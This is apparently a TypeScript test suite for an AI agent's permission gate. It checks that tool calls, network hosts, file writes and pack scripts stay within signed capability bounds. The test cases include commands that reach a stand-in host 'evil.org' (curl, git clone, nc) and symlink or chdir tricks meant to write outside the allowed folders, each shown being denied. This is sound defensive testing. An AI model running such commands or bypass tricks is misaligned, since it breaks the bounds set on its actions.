import { expect, test } from "vitest";
import { bash, context, edit, fetches, policy, read } from "../../test/support/gate.ts";
import type { Capabilities } from "../protocol/skills.ts";
import { decide, type GateCall } from "./decide.ts";
import { needsShell } from "./needs-shell.ts";

function under(capabilities: Capabilities, call: GateCall, folder?: string) {
  const bounds = [{ capabilities, ...(folder !== undefined && { folder }) }];
  const one = { ...policy("unrestricted"), bounds };
  const seen = needsShell(call, one, context) ? context : { ...context, shell: null };
  const { decision, reason } = decide(call, one, seen);
  return decision === "deny" && reason.code === "beyond-pack" ? `${reason.lacks} ${reason.missing}`.trim() : decision;
}

const file = (path: string) => `${context.workspace}/${path}`;

const searches: GateCall = { tool: "web_search", class: "free", touches: [] };

const ofServer = (tool: string, resource: string): GateCall => ({
  tool,
  class: "act",
  touches: [{ action: "interact", resource }],
});

test.each<[string, Capabilities, GateCall, string]>([
  ["a list that is absent sets no bound", {}, bash("make"), "allow"],
  ["a tool that is listed passes", { tools: ["bash"] }, bash("make"), "allow"],
  ["a tool that is not is denied by its name", { tools: ["read_file"] }, bash("make"), "tool bash"],
  ["a server's tools pass", { tools: ["mcp_a_*"] }, ofServer("mcp_a_b_c", "a/b_c"), "allow"],
  ["another server's do not", { tools: ["mcp_a_*"] }, ofServer("mcp_a_b_c", "a_b/c"), "tool mcp_a_b_c"],
  ["a tool as its server calls it", { tools: ["mcp__a__b_c"] }, ofServer("mcp_a_b-c_12345678", "a/b_c"), "allow"],
  ["an empty list allows none", { tools: [] }, read(file("a")), "tool read_file"],
  ["a search is not among the hosts", { hosts: ["example.com"] }, searches, "tool web_search"],
  ["but may be among the tools", { hosts: [], tools: ["web_search"] }, searches, "allow"],
  ["a host that is listed passes", { hosts: ["example.com"] }, fetches("https://example.com/a"), "allow"],
  ["those below a name do", { hosts: ["*.example.com"] }, fetches("https://docs.example.com/a"), "allow"],
  [
    "the name itself is not below it",
    { hosts: ["*.example.com"] },
    fetches("https://example.com/a"),
    "host example.com",
  ],
  [
    "what only ends alike is another",
    { hosts: ["*.example.com"] },
    fetches("https://notexample.com/"),
    "host notexample.com",
  ],
  ["an address in a command counts", { hosts: ["example.com"] }, bash("curl -s https://evil.org/x"), "host evil.org"],
  ["a listed one in a command passes", { hosts: ["example.com"] }, bash("curl -s 'https://example.com/x'"), "allow"],
  ["so does one of another kind", { hosts: ["example.com"] }, bash("git clone ssh://git@evil.org/x"), "host evil.org"],
  ["or one that is listed", { hosts: ["example.com"] }, bash("git clone ssh://git@example.com/x"), "allow"],
  ["a file of this machine is no host", { hosts: [] }, bash("open file:///tmp/x"), "allow"],
  ["without an address it is a host", { hosts: ["example.com"] }, bash("curl -s evil.org/x"), "hidden-host curl"],
  ["also by its whole path", { hosts: [] }, bash("cd x && /usr/bin/nc evil.org 80"), "hidden-host nc"],
  ["a listed one passes so too", { hosts: ["example.com"] }, bash("curl -so a example.com/x"), "allow"],
  ["and as a place of files", { hosts: ["example.com"] }, bash("scp me@example.com:a b"), "allow"],
  ["what is only known later", { hosts: ["example.com"] }, bash("curl https://example.com/ $X"), "hidden-host curl"],
  ["a command that reaches nobody is free", { hosts: [] }, bash("cat src/a.ts"), "allow"],
  ["a file within the patterns may be written", { paths: ["out/**"] }, edit(file("out/a/b.txt")), "allow"],
  ["another may not", { paths: ["out/**"] }, edit(file("src/a.ts")), `write ${file("src/a.ts")}`],
  ["nor one outside of the workspace", { paths: ["**"] }, edit("/etc/hosts"), "write /etc/hosts"],
  ["what is read is free", { paths: [] }, read(file("src/a.ts")), "allow"],
  ["a command that only reads is free", { paths: [] }, bash("cat src/a.ts"), "allow"],
  ["one that writes is not", { paths: ["out/**"] }, bash("rm src/a.ts"), `write ${file("src/a.ts")}`],
  ["within the patterns it is", { paths: ["out/**"] }, bash("touch out/a"), "allow"],
  ["the folder itself may be made", { paths: ["out/**"] }, bash("mkdir out"), "allow"],
  ["what is copied is read, and its place written", { paths: ["out/**"] }, bash("cp src/a.ts out/a.ts"), "allow"],
])("%s", (_, capabilities, call, expected) => {
  expect(under(capabilities, call)).toBe(expected);
});

test("what another tool finds may be seen, whichever tools there are", () => {
  expect(under({ tools: ["grep"] }, { ...read(file("a")), look: true })).toBe("allow");
  expect(under({ tools: ["grep"] }, read(file("a")))).toBe("tool read_file");
});

test("who was signed without programs runs none from its folder", () => {
  expect(under({ scripts: false }, bash("sh /packs/x/go.sh"), "/packs/x")).toBe("scripts /packs/x");
  expect(under({ scripts: true }, bash("sh /packs/x/go.sh"), "/packs/x")).toBe("allow");
  expect(under({ scripts: false }, bash("sh /packs/y/go.sh"), "/packs/x")).toBe("allow");
});

test("of several packs every one must have been signed for it", () => {
  const bounds = [{ capabilities: { tools: ["bash"] } }, { capabilities: { tools: ["read_file"] } }];
  const one = { ...policy("unrestricted"), bounds };
  for (const call of [bash("ls"), read(file("a"))]) expect(decide(call, one, context).decision).toBe("deny");
});

test.each<[string, string]>([
  ["ln -s /elsewhere out/l && echo x > out/l/f", "write /elsewhere"],
  ["ln -s out/a out/b", "allow"],
  ["cp -P link out/l5; echo x > out/l5/f", `write ${file("link")}`],
  ["cp link out/copy", "allow"],
  ["cp -r src out/src", "allow"],
  ["env -C .. touch out/f", "hidden-write"],
  ["env --chdir=.. touch out/f", "hidden-write"],
  ["git -C .. init out/f", "write /home/u"],
  ["git -C .. log", "allow"],
  ["cd - && touch out/f", "hidden-write"],
])("a bound of paths is not passed by another folder or a link: %s", (command, expected) => {
  const real = (path: string) => path.replace(file("link"), "/elsewhere");
  const one = { ...policy("unrestricted"), bounds: [{ capabilities: { paths: ["out/**"] } }] };
  const { decision, reason } = decide(bash(command), one, { ...context, real });
  expect(reason.code === "beyond-pack" ? `${reason.lacks} ${reason.missing}`.trim() : decision).toBe(expected);
});

test("a link that goes up is seen from where it lies, not from where it is made", () => {
  const call = bash("ln -s ../../x /home/u/project/out/l", file("out/a/b"));
  expect(under({ paths: ["out/**"] }, call)).toBe("hidden-write");
});
